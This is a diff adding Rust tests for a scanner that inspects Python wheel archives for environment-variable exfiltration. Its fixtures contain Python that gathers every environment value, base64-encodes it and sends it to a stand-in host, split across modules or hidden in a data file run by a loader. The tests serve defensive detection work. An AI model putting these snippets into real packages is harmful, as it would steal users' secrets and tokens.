@@ -1,0 +1,107 @@
+//! The archive walk with the real Python analysis: what needs more than one member (M1 across
+//! modules, RT13-02) or a second look at a member (source a loader runs, RT13-03).
+
+use std::io::Write;
+use std::path::{Path, PathBuf};
+
+use zip::write::SimpleFileOptions;
+
+use super::*;
+
+fn wheel(dir: &Path, members: &[(&str, &str)]) -> PathBuf {
+    let path = dir.join("evmod-1.0-py3-none-any.whl");
+    let file = std::fs::File::create(&path).expect("create");
+    let mut z = zip::ZipWriter::new(file);
+    for (name, data) in members {
+        z.start_file(*name, SimpleFileOptions::default())
+            .expect("start");
+        z.write_all(data.as_bytes()).expect("write");
+    }
+    z.finish().expect("finish");
+    path
+}
+
+fn scan(members: &[(&str, &str)]) -> ArchiveScan {
+    let dir = tempfile::tempdir().expect("tmp");
+    let path = wheel(dir.path(), members);
+    scan_archive(&path, ArchiveKind::Wheel, &ScanLimits::default()).expect("scan")
+}
+
+fn m1(scan: &ArchiveScan) -> Option<&Finding> {
+    scan.findings
+        .iter()
+        .find(|f| f.rule == Rule::EnvExfiltration)
+}
+
+const A: &str = "import os\ndef collect():\n    return ' '.join(os.environ.values())\n";
+const B: &str = "import base64\ndef enc(s):\n    return base64.b64encode(s.encode()).decode()\n";
+const C: &str = "import requests\ndef send(d):\n    requests.get('https://x.invalid/?q=' + d)\n";
+
+#[test]
+fn environment_collected_encoded_and_sent_by_three_modules_is_m1() {
+    let s = scan(&[
+        ("evmod/a.py", A),
+        ("evmod/b.py", B),
+        ("evmod/c.py", C),
+        (
+            "evmod/__init__.py",
+            "from .a import collect\nfrom . import b\nfrom evmod.c import send\nsend(b.enc(collect()))\n",
+        ),
+    ]);
+    let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
+    assert_eq!(f.severity, Severity::High, "{f:#?}");
+    assert_eq!(f.path, "evmod/__init__.py");
+    assert_eq!(f.line, Some(4));
+    assert_eq!(f.snippet, "send(b.enc(collect()))");
+}
+
+#[test]
+fn one_environment_value_sent_by_another_module_is_medium() {
+    let s = scan(&[
+        ("evmod/c.py", C),
+        (
+            "evmod/__init__.py",
+            "import os\nfrom .c import send\nsend(os.environ.get('TOKEN'))\n",
+        ),
+    ]);
+    let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
+    assert_eq!(f.severity, Severity::Medium, "{f:#?}");
+}
+
+#[test]
+fn modules_that_do_not_pass_environment_data_are_quiet() {
+    let s = scan(&[
+        ("evmod/a.py", A),
+        ("evmod/c.py", C),
+        (
+            "evmod/__init__.py",
+            "from .a import collect\nfrom .c import send\nprint(collect())\nsend('hello')\n",
+        ),
+    ]);
+    assert!(m1(&s).is_none(), "{:#?}", s.findings);
+}
+
+#[test]
+fn a_member_a_loader_runs_is_read_as_python() {
+    let payload = "import os, base64, requests\ns = ' '.join(os.environ.values())\nrequests.get('https://x.invalid/?q=' + base64.b64encode(s.encode()).decode())\n";
+    for loader in [
+        "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'cfg.dat'))\n",
+        "import os\nfrom importlib.machinery import SourceFileLoader\np = os.path.join(os.path.dirname(__file__), 'cfg.dat')\nSourceFileLoader('cfg', p).load_module()\n",
+    ] {
+        // The data member comes first: the walk must come back to it.
+        let s = scan(&[("evmod/cfg.dat", payload), ("evmod/__init__.py", loader)]);
+        let f = m1(&s).unwrap_or_else(|| panic!("no M1: {:#?}", s.findings));
+        assert_eq!(
+            (f.path.as_str(), f.severity),
+            ("evmod/cfg.dat", Severity::High)
+        );
+        assert!(
+            s.capabilities["evmod/__init__.py"].contains(&Capability::DynamicCode),
+            "{:?}",
+            s.capabilities
+        );
+    }
+    // A data file nothing loads stays data.
+    let s = scan(&[("evmod/cfg.dat", payload), ("evmod/__init__.py", "x = 1\n")]);
+    assert!(m1(&s).is_none(), "{:#?}", s.findings);
+}
